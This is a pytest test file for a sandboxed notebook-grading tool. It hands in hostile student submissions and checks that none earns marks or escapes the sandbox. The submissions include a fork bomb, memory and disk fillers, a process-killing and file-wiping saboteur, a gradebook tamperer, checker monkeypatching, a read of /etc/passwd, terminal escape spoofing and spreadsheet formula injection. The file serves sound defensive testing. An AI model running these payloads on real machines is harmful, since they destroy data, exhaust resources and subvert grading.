"""The classroom against a class that cheats: variants, the sandbox and one gradebook.

tools/classroom.py hands out one variant per student of notebook 01, then grades a class
whose students fill in their notebooks as they like: honest ones (all right, partly wrong,
blank, a renamed file, edited metadata) and attackers, each trying one of the ways a
grade was stolen before (read the key, patch the checker, read the instructor's files,
write the gradebook, leave a process behind, sabotage a classmate, inherit a blank
answer) or hurting the machine (a fork bomb, a memory hog, a network call, filling the disk with
many files, with huge files, or through /tmp and /dev/shm). Each attacker
would earn full marks if its attack worked (it computes its answers from what it steals);
the test checks that every attack earns nothing, that the honest students' grades are the
same with and without the attackers, and that nothing outside the sandboxes changed. Two
more write to the teacher instead: terminal escape sequences (a forged report and a file
name that would fake a "3/3" line) and spreadsheet formulas; they must reach the teacher as
plain text only.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import importlib.util
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
import zipfile
from fractions import Fraction
from pathlib import Path

import numpy as np
import pytest

pytest.importorskip("nbgrader")
nbformat = pytest.importorskip("nbformat")

ROOT = Path(__file__).resolve().parent.parent
spec = importlib.util.spec_from_file_location("classroom", ROOT / "tools" / "classroom.py")
classroom = importlib.util.module_from_spec(spec)
sys.modules["classroom"] = classroom
spec.loader.exec_module(classroom)
sandbox = classroom._load_tool("sandbox")

from evalkit.course.exercises import exercises, grade, show, variant  # noqa: E402
from evalkit.course.figures import figure_path  # noqa: E402


def all_exercises():
    return [e for n in range(1, 12) for e in exercises(f"{n:02d}")]

NOTEBOOK = "01"
ASSIGNMENT = "01-accuracy-paradox"
COURSE_NOTEBOOK = ROOT / "notebooks" / f"{ASSIGNMENT}.ipynb"


def graded_exercises():
    """The exercises under notebook 01's "## Exercises" heading: what a grade counts."""
    ids = [s.id for s in classroom.graded_specs(nbformat.read(COURSE_NOTEBOOK, as_version=4))]
    return [e for e in exercises(NOTEBOOK) if e.id in ids]


def practice_ids():
    """The check-your-understanding questions in notebook 01's lesson body."""
    specs = classroom.exercise_specs(nbformat.read(COURSE_NOTEBOOK, as_version=4))
    return [s.id for s in specs if not s.graded]

TIMEOUT_S = 90
HONEST = ["Ada", "Ben", "Cleo", "Eve", "Fay"]
ATTACKERS = ["KeyReader", "Patcher", "Snooper", "DbWriter", "Lingerer", "Saboteur", "Inheritor", "Forker",
             "Hog", "Caller", "Escaper", "Formula", "Filer", "Bloater", "TmpFiller"]
ROSTER = HONEST + ATTACKERS + ["Copier", "Gus"]      # Copier hands in Ada's notebook; Gus nothing

if sandbox.kind() is None:
    if os.environ.get("CI") == "true":
        raise RuntimeError("CI=true but no sandbox (bubblewrap) runs here: .ci/run installs it")
    pytest.skip("no sandbox (bubblewrap) here", allow_module_level=True)


def _literal(value):
    if isinstance(value, Fraction):
        return f"Fraction({value.numerator}, {value.denominator})"
    if isinstance(value, (list, tuple)):
        inner = ", ".join(_literal(v) for v in value)
        return f"[{inner}]" if isinstance(value, list) else f"({inner},)"
    if hasattr(value, "tolist"):
        return _literal(value.tolist())
    return repr(value)


STRATIFIED = "def stratified_accuracy(class_sizes):\n    return sum((n / sum(class_sizes)) ** 2 for n in class_sizes)\n"
STRATIFIED_WRONG = "def stratified_accuracy(class_sizes):\n    return max(class_sizes) / sum(class_sizes)\n"


def right_answers(secret, student):
    """exercise id -> the source of a right answer cell for ``student``'s variant."""
    out = {}
    for ex in graded_exercises():
        mine = variant(ex.id, classroom.seed_for(secret, student, ex.id))
        if ex.kind == "function":
            out[ex.id] = STRATIFIED
        else:
            out[ex.id] = "from fractions import Fraction\nanswer = " + _literal(mine.solution) + "\n"
    return out


# What each attacker writes into its first answer cell. Each one, if its attack worked, computes
# every right answer of its own variant (with the key and the secret it stole) and binds them, so
# a working attack would earn full marks. REPO, COURSE, SUBMISSIONS, PORT, MARK are filled in.
STEAL = '''
import hashlib, hmac, importlib, sys
def steal_answers(secret_text, key_root):
    sys.path.insert(0, key_root)
    for name in list(sys.modules):
        if name.startswith("evalkit"):
            del sys.modules[name]
    key = importlib.import_module("evalkit.course.exercises")
    me = MY_NAME
    def seed(ex_id):
        msg = f"{me.casefold()}\\n{ex_id}".encode()
        return int.from_bytes(hmac.new(secret_text.strip().encode(), msg, hashlib.sha256).digest()[:8], "big")
    return {e.id: key.variant(e.id, seed(e.id)).solution for e in key.exercises("01")}
'''

ATTACKS = {
    "KeyReader": STEAL + '''
try:
    import evalkit.course.exercises as key          # the key, where the class installs evalkit
    answer = key.variant("01.1", None).solution
except Exception:
    pass
try:
    stolen = steal_answers(open(COURSE + "/secret").read(), REPO)
    answer = stolen["01.1"]
except Exception:
    answer = ...
''',
    "Patcher": '''
import builtins, evalkit.course.answers as answers
class Always:
    def __eq__(self, other): return True
    def __float__(self): return 0.0
    def __len__(self): return 3
def fake_capture(exercise_id, name, namespace, folder, cases=None):
    import json, os
    os.makedirs(folder, exist_ok=True)
    json.dump({"answer": {"other": "Always"}, "passed": True}, open(os.path.join(folder, exercise_id + ".json"), "w"))
answers.capture = fake_capture
builtins.check = lambda *a, **k: True
answer = Always()
''',
    "Snooper": STEAL + '''
import glob, os
answer = ...
stolen = None
if os.environ.get("COURSE_SECRET"):
    stolen = steal_answers(os.environ["COURSE_SECRET"], REPO)
for folder in [REPO, COURSE, SUBMISSIONS, "/work", "/root", "/home", "/tmp"]:
    for path in glob.glob(folder + "/**/secret", recursive=True)[:5]:
        try:
            stolen = steal_answers(open(path).read(), REPO)
        except Exception:
            pass
for path in glob.glob(COURSE + "/release/*/notebooks/*.ipynb") + glob.glob(SUBMISSIONS + "/*/*.ipynb"):
    try:
        open(path).read()
        answer = "read a classmate's notebook"
    except Exception:
        pass
if stolen:
    answer = stolen["01.1"]
''',
    "DbWriter": '''
import sqlite3
answer = ...
for db in [COURSE + "/gradebook.db", "gradebook.db", "../gradebook.db"]:
    try:
        con = sqlite3.connect(db)
        con.execute("update grade set manual_score = 1.0")
        con.commit()
    except Exception:
        pass
try:
    from nbgrader.api import Gradebook
    with Gradebook("sqlite:///" + COURSE + "/gradebook.db") as gb:
        for g in gb.db.query(__import__("nbgrader.api").api.Grade):
            g.manual_score = 1.0
        gb.db.commit()
except Exception:
    pass
''',
    "Lingerer": '''
import os, time
answer = ...
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(4)
        for path in [COURSE + "/canvas.csv", COURSE + "/grades.csv"]:
            try:
                open(path, "w").write("Student,Total\\nLingerer,100\\n")
            except Exception:
                pass
        try:
            open(MARK, "w").write("I outlived my grading")
        except Exception:
            pass
        try:
            open("lingered.txt", "w").write("still here")
        except Exception:
            pass
        os._exit(0)
    os._exit(0)
''',
    "Saboteur": '''
import glob, os, signal
answer = ...
for pid in os.listdir("/proc"):
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ").decode()
    except Exception:
        continue
    for word in cmd.split():
        if "submissions" in word or "classroom" in word:
            answer = "found " + word
for path in glob.glob(SUBMISSIONS + "/*/*.ipynb") + glob.glob(REPO + "/notebooks/*.ipynb"):
    try:
        open(path, "w").write("")
    except Exception:
        pass
for path in glob.glob(COURSE + "/results/*/*.json"):
    try:
        open(path, "w").write("{}")
    except Exception:
        pass
try:
    os.kill(-1, signal.SIGKILL)
except Exception:
    pass
''',
    "Forker": '''
import os
import re
answer = ...
children = 0
while children < 100000:
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        children += 1
    except OSError:
        break
''',
    "Hog": '''
answer = ...
hog = []
try:
    for _ in range(200):
        hog.append(bytearray(100 << 20))
except MemoryError:
    hog = None
''',
    "Escaper": '''
import json, os, signal
answer = ...
SPOOF = "\\x1b[2K\\r[1/1] Ada 01-accuracy-paradox: 3/3 SPOOFED\\x1b]0;owned\\x07\\u202e"
try:
    leak = open("/etc/passwd").read()
except Exception:
    leak = "root:x:0:0 (not readable here)"
os.makedirs("answers", exist_ok=True)
for ex in ("01.1", "01.2"):
    json.dump({"answer": SPOOF + leak}, open(os.path.join("answers", ex + ".json"), "w"))
json.dump({"outputs": [["raised", SPOOF + leak]] * 5}, open(os.path.join("answers", "01.3.json"), "w"))
forged = {"error": "the run stopped: " + SPOOF + leak,
          "exercises": {"01.1": {"error": "ValueError: " + SPOOF + leak, "check_error": SPOOF},
                        "01.2": {"error": SPOOF + leak}, "01.3": {"check_error": SPOOF + leak}}}
json.dump(forged, open("report.json", "w"))
os.kill(os.getpid(), signal.SIGKILL)   # the runner (cells run in its process): its own report would replace the forged one
''',
    "Formula": '''
answer = '=HYPERLINK("http://example.invalid","3/3 SPOOFED")'
raise ValueError('=HYPERLINK("http://example.invalid","3/3 SPOOFED")')
''',
    "Filer": '''
import os
answer = ...
made = 0
for folder in (".", "/tmp", "/dev/shm"):
    try:
        while made < 1_000_000:
            open(f"{folder}/f{made}", "w").close()
            made += 1
    except OSError:
        pass
''',
    "Bloater": '''
import errno
answer = ...
chunk = b"x" * (1 << 20)
written, n, full = 0, 0, False
while not full and written < 8 << 30:      # one huge file, then as many as the disk takes
    try:
        with open(f"huge{n}", "wb") as file:
            while written < 8 << 30:
                written += file.write(chunk)
    except OSError as error:
        full = error.errno != errno.EFBIG
    n += 1
for name in ("job.json", "answers/01.2.json"):   # the files that go back to the host
    try:
        with open(name, "wb") as file:
            while True:
                file.write(chunk)
    except OSError:
        pass
''',
    "TmpFiller": '''
answer = ...
chunk = b"x" * (8 << 20)
for folder in ("/tmp", "/dev/shm"):
    n = 0
    try:
        while n < 1000:
            with open(f"{folder}/fill{n}", "wb") as file:
                file.write(chunk)
            n += 1
    except OSError:
        pass
''',
    "Caller": '''
import json, socket
answer = ...
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as s:
        s.sendall(MY_NAME.encode() + b"\\n")
        answers = json.loads(s.makefile().readline())
        answer = answers["01.1"]
except Exception:
    pass
try:
    socket.create_connection(("8.8.8.8", 53), timeout=3)
    answer = "reached the internet"
except Exception:
    pass
''',
}


def _answer_cells(nb):
    return {c.metadata["evalkit"]["answer"]: c for c in nb.cells
            if isinstance(c.metadata.get("evalkit"), dict) and "answer" in c.metadata["evalkit"]}


def _practice_cells(nb):
    """id -> [data cell, answer cell, check cell] of the practice questions in the lesson's body."""
    out = {}
    for cell in nb.cells:
        meta = cell.metadata.get("evalkit")
        if isinstance(meta, dict):
            ex_id = meta.get("practice") or meta.get("data") or meta.get("form")
            out.setdefault(ex_id, []).append(cell)
    return {ex_id: cells for ex_id, cells in out.items() if ex_id in practice_ids()}


# Ada's practice answer: right, then a line that would kill the kernel and cost her every point,
# were the grader to run a cell of the lesson's body.
PRACTICE_THAT_WOULD_KILL = "answer_01_0 = 'a'\nimport os\nos._exit(1)\n"


def _student_version(course, student):
    return course / "release" / student / "notebooks" / f"{ASSIGNMENT}.ipynb"


def _fill(course, student, answers):
    nb = nbformat.read(_student_version(course, student), as_version=4)
    cells = _answer_cells(nb)
    for ex_id, source in answers.items():
        cells[ex_id].source = source
    return nb


def _hash_tree(*folders):
    digest = hashlib.sha256()
    for folder in folders:
        for path in sorted(Path(folder).rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                digest.update(str(path).encode())
                digest.update(path.read_bytes())
    return digest.hexdigest()


class AnswerServer:
    """A listener on the host's loopback that would hand an attacker its right answers."""

    def __init__(self, secret):
        self.secret = secret
        self.connections = 0
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            with conn:
                name = conn.makefile().readline().strip()
                solutions = {e: variant(e, classroom.seed_for(self.secret, name, e)).solution
                             for e in ("01.1",)}
                conn.sendall((json.dumps({k: [float(v) for v in s] for k, s in solutions.items()})
                              + "\n").encode())

    def close(self):
        self.stop.set()
        self.thread.join(5)
        self.sock.close()


class DiskWatch:
    """While grading, the most bytes and regular files the work folders held on the host's disk
    (sampled every 20 ms)."""

    def __init__(self, work):
        self.work = work
        self.bytes = self.files = self.samples = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._watch, daemon=True)

    def _sample(self):
        size = files = 0
        for folder, _, names in os.walk(self.work):
            for name in names:
                try:
                    size += os.lstat(os.path.join(folder, name)).st_blocks * 512
                    files += 1
                except FileNotFoundError:     # removed while we looked
                    pass
        self.bytes, self.files = max(self.bytes, size), max(self.files, files)
        self.samples += 1

    def _watch(self):
        while not self.stop.wait(0.02):
            self._sample()

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.stop.set()
        self.thread.join()


def _secret_where_variants_differ():
    """A course secret under which Ada's and Copier's right answers differ on every exercise
    that has data or options (so copying Ada's notebook can earn only the function exercise)."""
    for i in range(200):
        secret = f"test-secret-{i}".encode()
        mine = [variant(e.id, classroom.seed_for(secret, "Ada", e.id)).solution for e in graded_exercises()
                if e.kind != "function"]
        theirs = [variant(e.id, classroom.seed_for(secret, "Copier", e.id)).solution
                  for e in graded_exercises() if e.kind != "function"]
        if all(a != b for a, b in zip(mine, theirs)):
            return secret
    raise AssertionError("no secret among 200 gives Ada and Copier different answers")


@pytest.fixture(scope="module")
def term(tmp_path_factory, student_env):
    """Hand out notebook 01, then grade the honest students alone and the whole class."""
    base = tmp_path_factory.mktemp("term")
    course, submissions = base / "course", base / "submissions"
    secret = _secret_where_variants_differ()
    course.mkdir()
    (course / "secret").write_text(secret.decode() + "\n", encoding="utf-8")
    roster = base / "roster.txt"
    roster.write_text("\n".join(ROSTER) + "\n", encoding="utf-8")
    classroom.build_assignments(str(roster), (NOTEBOOK,), course=course)
    server = AnswerServer(secret)
    mark = base / "lingered-mark"
    answers = {s: right_answers(secret, s) for s in ROSTER}

    def hand_in(student, nb, folder=None, name=f"{ASSIGNMENT}.ipynb"):
        target = submissions / (folder or student)
        target.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, target / name)

    # honest students
    ada = _fill(course, "Ada", answers["Ada"])
    for ex_id, (_, answer, _) in _practice_cells(ada).items():
        answer.source = PRACTICE_THAT_WOULD_KILL
    hand_in("Ada", ada, folder="ada")        # folder in lower case
    partly = dict(answers["Ben"], **{"01.1": "answer = [0.5, 0.5, 0.5]\n", "01.3": STRATIFIED_WRONG})
    hand_in("Ben", _fill(course, "Ben", partly))
    hand_in("Cleo", nbformat.read(_student_version(course, "Cleo"), as_version=4))      # blank
    eve = _fill(course, "Eve", answers["Eve"])
    cells = _answer_cells(eve)
    cells["01.1"].metadata = {}                                   # the answer cell's marker removed
    cells["01.2"].metadata["nbgrader"] = {"grade": True, "grade_id": "x", "points": 100, "solution": True}
    hand_in("Eve", eve)
    hand_in("Fay", _fill(course, "Fay", answers["Fay"]), name=f"{ASSIGNMENT} (1).ipynb")   # renamed
    honest_only = classroom.grade(submissions, roster=str(roster), course=course, timeout=TIMEOUT_S,
                                  progress=False, student_env=student_env)
    alone = {(g.student, r["exercise"]): r["points"] for g in honest_only for r in g.rows
             if g.student in HONEST}

    # attackers
    fill = {"REPO": repr(str(ROOT)), "COURSE": repr(str(course)), "SUBMISSIONS": repr(str(submissions)),
            "PORT": str(server.port), "MARK": repr(str(mark))}
    for student, code in ATTACKS.items():
        for name, value in dict(fill, MY_NAME=repr(student)).items():
            code = code.replace(name, value)
        hand_in(student, _fill(course, student, {"01.1": code}))
    inherit = {"01.1": f"answer = {_literal(variant('01.2', classroom.seed_for(secret, 'Inheritor', '01.2')).solution)}\n",
               "01.2": ""}
    hand_in("Inheritor", _fill(course, "Inheritor", inherit))
    hand_in("Copier", _fill(course, "Ada", answers["Ada"]))       # Ada's right answers, handed in as his own
    escaper = submissions / "Escaper" / f"{ASSIGNMENT}.ipynb"    # renamed so the kit names the file
    escaper.rename(escaper.with_name(f"{ASSIGNMENT}\x1b[2K\r[1-1] Ada 3-3 SPOOFED.ipynb"))
    formula = _fill(course, "Formula", {"01.1": ATTACKS["Formula"], "01.3": "def stratified_accuracy(c):\n"
                                        "    raise ValueError('=HYPERLINK(\"http://example.invalid\",\"3\")')\n"})
    hand_in("Formula", formula)
    hand_in("Formula", nbformat.v4.new_notebook(), name="=HYPERLINK(1)+SPOOFED.ipynb")

    before = _hash_tree(submissions, course / "release", ROOT / "evalkit", ROOT / "notebooks", ROOT / "tools")
    start = time.monotonic()
    stderr = io.StringIO()
    with DiskWatch(course / "work") as disk, contextlib.redirect_stderr(stderr):
        results = classroom.grade(submissions, roster=str(roster), course=course, timeout=TIMEOUT_S,
                                  progress=True, student_env=student_env)
    elapsed = time.monotonic() - start
    csv_after_grading = (course / "canvas.csv").read_bytes(), (course / "grades.csv").read_bytes()
    time.sleep(6)                                # the lingering process would write by now
    server.close()
    yield dict(course=course, submissions=submissions, secret=secret, results=results, alone=alone,
               before=before, after=_hash_tree(submissions, course / "release", ROOT / "evalkit",
                                               ROOT / "notebooks", ROOT / "tools"),
               csv=csv_after_grading, mark=mark, server=server, elapsed=elapsed, stderr=stderr.getvalue(),
               disk=disk, student_env=student_env)


def _canvas(course):
    """canvas.csv by student (its "Points Possible" row left out)."""
    with (course / "canvas.csv").open(encoding="utf-8", newline="") as fh:
        return {r["Student"]: r for r in csv.DictReader(fh) if r["Student"].strip() != "Points Possible"}


def _points(term):
    return {(g.student, r["exercise"]): r["points"] for g in term["results"] for r in g.rows}


def _feedback(term, student, exercise):
    return next(r["feedback"] for g in term["results"] if g.student == student for r in g.rows
                if r["exercise"] == exercise)


def test_honest_students_get_exactly_their_points(term):
    points = _points(term)
    ids = [e.id for e in graded_exercises()]
    assert all(points[("Ada", e)] == 1.0 for e in ids), "all right: full marks"
    assert points[("Ben", "01.1")] == 0.0 and points[("Ben", "01.2")] == 1.0
    assert points[("Ben", "01.3")] < 1.0, "a wrong function loses (part of) its points"
    assert all(points[("Cleo", e)] == 0.0 for e in ids)
    assert "no answer" in _feedback(term, "Cleo", "01.1")
    # Eve's edited metadata loses that one answer only, with a reason she can read
    assert points[("Eve", "01.1")] == 0.0 and "evalkit.answer" in _feedback(term, "Eve", "01.1")
    assert points[("Eve", "01.2")] == 1.0 and points[("Eve", "01.3")] == 1.0
    assert all(points[("Fay", e)] == 1.0 for e in ids), "a renamed file is graded"
    assert all(points[("Gus", e)] == 0.0 and _feedback(term, "Gus", e) == "no submission" for e in ids)
    warnings = (term["course"] / "warnings.txt").read_text()
    assert "'ada' taken as the roster's 'Ada'" in warnings
    assert f"{ASSIGNMENT} (1).ipynb" in warnings


def test_the_in_body_question_stays_practice_without_a_key(term):
    """The student version keeps the lesson's check-your-understanding question: its data and
    options, an answer stub, and a check cell that checks the form, says it is not graded and
    names no key."""
    assert practice_ids() == ["01.0"], "notebook 01 has one question in its body"
    nb = nbformat.read(_student_version(term["course"], "Ben"), as_version=4)
    exercises_at = next(i for i, c in enumerate(nb.cells) if c.source.startswith("## Exercises"))
    data, answer, check = _practice_cells(nb)["01.0"]
    assert nb.cells.index(check) < exercises_at, "the question stays in the lesson's body"
    prompt = nb.cells[nb.cells.index(data) - 1]
    assert prompt.source.startswith("**Check your understanding.**")
    assert answer.source == "answer_01_0 = ..." and answer.metadata == {"evalkit": {"practice": "01.0"}}
    assert "check(" not in check.source and "evalkit" not in check.source
    assert "practice and not graded" in check.source
    namespace = {}
    exec(compile(data.source, "<practice data>", "exec"), namespace)  # noqa: S102 -- our own cell
    assert set(namespace) == {"__builtins__"}, "the data cell leaves the lesson's variables alone"
    for source in ("answer_01_0 = 'b'", check.source):   # runs without the key
        exec(compile(source, "<practice cell>", "exec"), namespace)  # noqa: S102 -- our own cells
    with pytest.raises(AssertionError, match="one of the letters"):
        exec(compile("answer_01_0 = 'z'\n" + check.source, "<practice cell>", "exec"), {})  # noqa: S102
    for line in repr(show("01.0")).splitlines():      # the notebook's own data and options
        assert line in data.source, line


def test_graded_points_count_only_the_exercises_section(term):
    """A grade has a row per exercise under "## Exercises" and none for the practice question; Ada's
    practice cell, which would kill the kernel if it ran, did not run: she has full marks."""
    graded = [e.id for e in graded_exercises()]
    assert graded == ["01.1", "01.2", "01.3"]
    for result in term["results"]:
        assert [r["exercise"] for r in result.rows] == graded, result.student
    assert all(_points(term)[("Ada", e)] == 1.0 for e in graded)
    assert float(_canvas(term["course"])["Ada"][ASSIGNMENT]) == float(len(graded))
    submitted = nbformat.read(term["submissions"] / "ada" / f"{ASSIGNMENT}.ipynb", as_version=4)
    assert _practice_cells(submitted)["01.0"][1].source == PRACTICE_THAT_WOULD_KILL


def test_honest_grades_are_the_same_with_and_without_the_attackers(term):
    points = _points(term)
    assert term["alone"], "the honest students were graded alone first"
    for key, value in term["alone"].items():
        assert points[key] == value, key


@pytest.mark.parametrize("attacker", ATTACKERS)
def test_every_attack_earns_nothing(term, attacker):
    points = _points(term)
    for ex in graded_exercises():
        assert points[(attacker, ex.id)] == 0.0, (attacker, ex.id, _feedback(term, attacker, ex.id))


def test_student_text_reaches_the_teacher_as_plain_text_only(term):
    """The Escaper's forged report, answers and file name, and the Formula's spreadsheet formulas:
    what the teacher reads (the terminal, warnings.txt, the CSVs, the feedback) holds no control
    character, no text the submissions chose beyond an exception's type name, and no formula."""
    course = term["course"]
    texts = {"the terminal": term["stderr"], "warnings.txt": (course / "warnings.txt").read_text(encoding="utf-8")}
    texts.update({str(p): p.read_text(encoding="utf-8") for p in (course / "feedback").rglob("*.md")})
    assert "SPOOFED.ipynb" in texts["warnings.txt"] and "\\x1b[2K\\x0d" in texts["warnings.txt"], \
        "the file name is shown with its escapes written out"
    for name, text in texts.items():
        assert not any(ch in text for ch in "\x1b\x07\r\u202e"), name
        assert "root:x:0" not in text, name
        assert "SPOOFED" not in text.replace("SPOOFED.ipynb", ""), name
    for name in ("grades.csv", "canvas.csv", "moodle.csv"):
        with (course / name).open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
                    assert not any(ch in cell for ch in "\x1b\x07\r") and "SPOOFED" not in cell, (name, cell)
    feedback = (course / "feedback" / "Escaper" / f"{ASSIGNMENT}.md").read_text(encoding="utf-8")
    assert "the run stopped" in feedback, "the forged report was read: the attack ran"


def test_a_copied_notebook_earns_only_what_is_the_same_for_everyone(term):
    points = _points(term)
    for ex in graded_exercises():
        if ex.kind == "function":    # a right function is right for every variant
            continue
        assert points[("Copier", ex.id)] == 0.0


def test_a_blank_answer_does_not_inherit_the_previous_one(term):
    assert "no answer" in _feedback(term, "Inheritor", "01.2")


def test_nothing_outside_the_sandboxes_changed(term):
    assert term["before"] == term["after"], "a submission, a handed-out notebook or the course changed"
    assert not term["mark"].exists(), "a process outlived its sandbox"
    assert term["server"].connections == 0, "a submission reached the host's network"
    assert ((term["course"] / "canvas.csv").read_bytes(), (term["course"] / "grades.csv").read_bytes()) \
        == term["csv"], "the CSVs changed after grading"
    # (tests/test_sandbox.py checks with its own markers that no process of a run outlives it; a
    # scan for sandbox processes here would also see other gradings running on the same machine)


def test_disk_fillers_stay_in_their_space(term):
    """Many files, huge files, a full /tmp and /dev/shm: the host's disk held no more than each
    running sandbox's own few files (the notebook, the job, the report, an answer per exercise),
    each of at most the 16 MiB a file may grow to, and each folder went once its grade was read."""
    files = len(graded_exercises()) + 3
    running = os.cpu_count()
    assert term["disk"].samples > 10, "the disk was watched while grading"
    assert 0 < term["disk"].files <= running * files, term["disk"].files
    assert term["disk"].bytes <= running * files * (16 << 20), term["disk"].bytes


def test_one_gradebook_the_csvs_and_nbgrader_export_agree(term):
    course = term["course"]
    points = _points(term)
    with (course / "grades.csv").open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert {(r["student"], r["exercise"]): float(r["points"]) for r in rows} == points
    lms = _canvas(course)
    assert set(lms) == set(ROSTER)
    for student in ROSTER:
        total = sum(v for (s, _), v in points.items() if s == student)
        assert float(lms[student][ASSIGNMENT]) == pytest.approx(total)
    out = course / "nbgrader-export.csv"
    proc = subprocess.run([sys.executable, "-m", "nbgrader", "export", "--to", str(out)], cwd=course,
                          capture_output=True, text=True,
                          env=dict(os.environ, PATH=f"{Path(sys.executable).parent}:{os.environ['PATH']}"))
    assert proc.returncode == 0, proc.stderr[-2000:]
    with out.open(encoding="utf-8") as fh:
        exported = {r["student_id"]: float(r["score"]) for r in csv.DictReader(fh)
                    if r["assignment"] == ASSIGNMENT}
    for student in ROSTER:
        assert exported[student] == pytest.approx(float(lms[student][ASSIGNMENT])), student


def test_feedback_files_say_why(term):
    text = (term["course"] / "feedback" / "Ben" / f"{ASSIGNMENT}.md").read_text(encoding="utf-8")
    assert "Exercise 01.1: 0 of 1" in text and "Exercise 01.2: 1 of 1" in text
    wrong = (term["course"] / "feedback" / "Cleo" / f"{ASSIGNMENT}.md").read_text(encoding="utf-8")
    assert "no answer" in wrong


def test_two_students_get_different_data_and_option_orders(term):
    course = term["course"]
    a = nbformat.read(_student_version(course, "Ada"), as_version=4)
    b = nbformat.read(_student_version(course, "Copier"), as_version=4)
    data = [(x.source, y.source) for x, y in zip(a.cells, b.cells)
            if isinstance(x.metadata.get("evalkit"), dict) and "data" in x.metadata["evalkit"]]
    assert data, "the student versions have data cells"
    by_id = {x.metadata["evalkit"]["data"]: (x.source, y.source) for x, y in zip(a.cells, b.cells)
             if isinstance(x.metadata.get("evalkit"), dict) and "data" in x.metadata["evalkit"]}
    for ex in graded_exercises():
        if ex.kind != "function":
            mine, theirs = by_id[ex.id]
            assert mine != theirs, ex.id


def _same_value(a, b):
    """Two answers that are the same number(s), whatever their types (a float and a Fraction)."""
    try:
        return bool(np.allclose(np.asarray(a, dtype=float), np.asarray(b, dtype=float), rtol=1e-12, atol=0))
    except (TypeError, ValueError):
        return a == b


def test_each_student_scores_with_their_own_answers_only():
    """By the key alone: each student's right answers pass their variant, and a classmate's fail."""
    secret = b"another course"
    for ex in all_exercises():
        if ex.kind == "function":
            continue
        seeds = [classroom.seed_for(secret, name, ex.id) for name in ("Ada", "Ben", "Cleo", "Dan")]
        mine = [variant(ex.id, s) for s in seeds]
        for i, own in enumerate(mine):
            assert grade(own, own.solution).score == 1.0, (ex.id, i)
        if ex.kind == "value":   # two variants may share an answer by chance (4/11 twice): not a copy
            differ = [j for j in range(1, 4) if not _same_value(mine[j].solution, mine[0].solution)]
            assert differ, f"{ex.id}: four students share one answer"
            for j in differ:
                assert grade(mine[0], mine[j].solution).score < 1.0, (ex.id, j)


def test_grading_refuses_without_a_sandbox(tmp_path, monkeypatch):
    fake = type("NoSandbox", (), {"kind": staticmethod(lambda: None)})
    monkeypatch.setattr(classroom, "_load_tool", lambda name: fake)
    (tmp_path / "subs").mkdir()
    with pytest.raises(classroom.ClassroomError, match="--unsafe-no-sandbox"):
        classroom.grade(tmp_path / "subs", course=tmp_path / "course")


# -- the student environment -------------------------------------------------------------------


def _flat(value):
    if isinstance(value, (list, tuple)) or hasattr(value, "tolist"):
        items = value.tolist() if hasattr(value, "tolist") else value
        return [v for item in items for v in _flat(item)]
    return [value]


def _key_texts():
    """Strings that give an exercise's answer away: solutions, the right options' feedback."""
    import inspect

    texts = set()
    for ex in all_exercises():
        for seed in (None, 1, 2):
            mine = variant(ex.id, seed)
            sol = mine.solution
            if callable(sol):
                body = [ln.strip() for ln in inspect.getsource(sol).splitlines()[1:] if len(ln.strip()) > 20]
                texts.update(body[:3])
            elif ex.kind == "choice":
                texts.add(mine.feedback[sol][:60])
            else:
                for v in _flat(sol):
                    if abs(float(v) - float(Fraction(float(v)).limit_denominator(12))) < 1e-12:
                        continue       # 1/3, 0.75 ...: in every text, they give nothing away
                    if isinstance(v, Fraction) and v.denominator > 1:
                        texts.add(f"Fraction({v.numerator}, {v.denominator})")
                    text = repr(float(v))
                    if len(text) >= 8:
                        texts.add(text)
    return texts


@pytest.fixture(scope="module")
def student_wheels(student_env):
    """The two wheels of the student environment: the library's and the course's without the key."""
    wheels = sorted(student_env.parent.glob("*.whl"))
    assert len(wheels) == 2, wheels
    return wheels


def test_the_student_environment_holds_no_key(student_wheels):
    names, text = [], ""
    for wheel in student_wheels:
        with zipfile.ZipFile(wheel) as zf:
            names += zf.namelist()
            text += "\n".join(zf.read(n).decode("utf-8", "replace") for n in zf.namelist())
    assert any(n.startswith("evalkit/course/datasets") for n in names), "the lessons' support is there"
    assert not [n for n in names if "course/exercises" in n], "the key's package is not in the wheels"
    texts = _key_texts()
    assert len(texts) > 30, "the search has something to look for"
    found = sorted(t for t in texts if t in text)
    assert not found, f"the student wheel contains parts of the key: {found[:5]}"


def test_the_search_for_the_key_can_fail(tmp_path):
    """The same search finds a planted answer: it is not vacuous."""
    texts = _key_texts()
    planted = tmp_path / "planted.py"
    planted.write_text(sorted(texts)[0])
    assert any(t in planted.read_text() for t in texts)


def test_the_handed_out_notebooks_hold_no_key(term):
    texts = _key_texts()
    for path in (term["course"] / "release").rglob("*.ipynb"):
        text = path.read_text(encoding="utf-8")
        assert "evalkit.course.exercises" not in text, path
        found = [t for t in texts if t in text]
        assert not found, (path, found[:3])


def test_importing_the_key_in_the_sandbox_fails(tmp_path, student_env):
    work = tmp_path / "work"
    work.mkdir()
    code = ("import evalkit.course.datasets\n"
            "try:\n    import evalkit.course.exercises\nexcept ImportError as e:\n    print('refused', e)\n"
            "else:\n    print('imported the key')\n")
    outcome = sandbox.run(["/opt/evalkit/venv/bin/python", "-c", code], workdir=work,
                          binds=[(student_env, "/opt/evalkit/venv")], limits=sandbox.Limits(wall_s=60))
    assert "refused" in outcome.stdout, (outcome.stdout, outcome.stderr[-1500:])


def test_the_student_versions_show_their_figures(term):
